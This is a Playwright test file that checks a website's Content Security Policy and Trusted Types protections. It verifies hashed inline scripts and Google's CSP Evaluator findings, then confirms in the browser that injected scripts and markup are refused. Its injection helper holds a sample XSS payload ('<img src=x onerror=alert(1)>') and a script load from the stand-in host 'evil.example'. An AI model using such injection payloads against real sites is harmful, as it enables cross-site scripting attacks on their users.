import { readFileSync } from 'node:fs';
import path from 'node:path';
import { CspEvaluator, DEFAULT_CHECKS, STRICTCSP_CHECKS } from 'csp_evaluator/dist/evaluator';
import { Severity } from 'csp_evaluator/dist/finding';
import { CspParser } from 'csp_evaluator/dist/parser';
import { describeTransmission } from '../components/frequency-panel/describe';
import { initialState } from '../components/frequency-panel/machine';
import { siteHeader } from '../content/layout';
import { inlineScripts, isCspMeta, scriptHash } from '../scripts/csp';
import { attributeOf, elementsOf } from '../scripts/html';
import { pageCspDirectives } from '../scripts/security';
import { hasIsland } from '../scripts/static-pages';
import { exposedExpanded } from './support/accessibility';
import { exportedHtmlFiles, outDir } from './support/export';
import { recordProblems } from './support/recorders';
import {
  activateButton,
  h1,
  menuOf,
  menuToggle,
  panelStatus,
  pauseButton,
  soundSwitch,
} from './support/locators';
import { expect, test, type Page } from './support/test';

/** Every exported page and the policy in its <meta>. */
function exportedPolicies() {
  return exportedHtmlFiles().map((file) => {
    const html = readFileSync(path.join(outDir, file), 'utf8');
    const elements = elementsOf(html);
    const meta = elements.find(isCspMeta);
    return { file, html, elements, meta, csp: meta && attributeOf(meta, 'content') };
  });
}

const directivesOf = (csp: string) =>
  new Map(
    csp.split(';').map((directive) => {
      const [name, ...sources] = directive.trim().split(/\s+/);
      return [name!, sources];
    }),
  );

test.describe('the exported pages', () => {
  test('every page carries a strict policy, its hashes covering each of its inline scripts', () => {
    for (const { file, html, elements, meta, csp } of exportedPolicies()) {
      expect(csp, file).toBeDefined();
      const directives = directivesOf(csp!);
      const expected = pageCspDirectives(hasIsland(html) ? 'island' : 'static');
      for (const [name, sources] of Object.entries(expected)) {
        const actual = directives.get(name);
        if (name === 'script-src') {
          const hashes = inlineScripts(html).map(scriptHash);
          expect(new Set(actual), file).toEqual(new Set([...sources, ...hashes]));
        } else {
          expect(actual, `${name} in ${file}`).toEqual(sources);
        }
      }
      expect([...directives.keys()].sort(), file).toEqual(Object.keys(expected).sort());
      // The policy comes before every script it governs.
      const firstScript = elements.findIndex((element) => element.tagName === 'script');
      expect(elements.indexOf(meta!), file).toBeLessThan(firstScript);
    }
  });

  test('Google’s CSP Evaluator finds nothing of medium severity or worse in any page’s policy', () => {
    for (const { file, csp } of exportedPolicies()) {
      const findings = new CspEvaluator(new CspParser(csp!).csp).evaluate(DEFAULT_CHECKS, [
        ...DEFAULT_CHECKS,
        ...STRICTCSP_CHECKS,
      ]);
      const serious = findings.filter((finding) => finding.severity <= Severity.HIGH_MAYBE);
      expect(
        serious.map((f) => `${f.directive}: ${f.description}`),
        file,
      ).toEqual([]);
    }
  });

  test('no page sets an inline style attribute', () => {
    for (const { file, elements } of exportedPolicies()) {
      expect(
        elements.filter((element) => attributeOf(element, 'style') !== undefined),
        file,
      ).toEqual([]);
    }
  });
});

/** What an injected script would try: markup into the page, and a script from elsewhere. */
const injections = (page: Page) =>
  page.evaluate(() => {
    const outcome = (attempt: () => void) => {
      try {
        attempt();
        return 'allowed';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      markup: outcome(() =>
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
      ),
      script: outcome(() => {
        document.createElement('script').src = 'https://evil.example/x.js';
      }),
    };
  });

// Every page loading with no CSP violation: e2e/pages.spec.ts in Chromium, e2e/engines.spec.ts in
// Firefox and WebKit.
test.describe('in the browser, under the policy', () => {
  test('an inline script the build did not hash is refused', async ({ page }) => {
    const violations = await recordProblems(page, { violationsOnly: true });
    await page.route('**/about/', async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '</body>',
        '<script>document.documentElement.dataset.injected = "ran"</script></body>',
      );
      await route.fulfill({ response, body: html });
    });
    await page.goto('/about/');
    await expect(h1(page)).toBeVisible();
    await expect(page.locator('html')).not.toHaveAttribute('data-injected', 'ran');
    await expect.poll(() => violations.some((v) => /script-src/.test(v))).toBe(true);
    await page.unrouteAll({ behavior: 'ignoreErrors' });
  });

  test('a content page refuses injected markup and scripts (Trusted Types), and its menu still works', async ({
    page,
  }) => {
    await page.setViewportSize({ width: 375, height: 812 });
    await page.goto('/retreats/');
    expect(await injections(page)).toEqual({ markup: 'TypeError', script: 'TypeError' });
    await menuToggle(page).click();
    await expect(await menuOf(page)).toBeVisible();
  });

  test('the panel’s page refuses them too, while the menu, the panel and sound keep working', async ({
    page,
  }) => {
    await page.setViewportSize({ width: 375, height: 812 });
    const violations = await recordProblems(page, { violationsOnly: true });
    await page.goto('/frequency-controller/');
    await soundSwitch(page).click();
    await activateButton(page).click();
    await expect(pauseButton(page)).toBeVisible();
    expect(await injections(page)).toEqual({ markup: 'TypeError', script: 'TypeError' });
    // Each refusal is reported as an event, which reaches the test a moment later.
    await expect.poll(() => violations.length).toBe(2);
    expect(violations.every((v) => /require-trusted-types-for/.test(v))).toBe(true);

    await expect(panelStatus(page)).toContainText(
      describeTransmission({ ...initialState, transmitting: true }),
    );
    await expect(soundSwitch(page)).toBeChecked();
    await pauseButton(page).click();
    await expect(activateButton(page)).toBeVisible();
    await menuToggle(page).click();
    await expect.poll(() => exposedExpanded(page, siteHeader.menuLabel)).toBe(true);
    expect(violations).toHaveLength(2);
  });
});
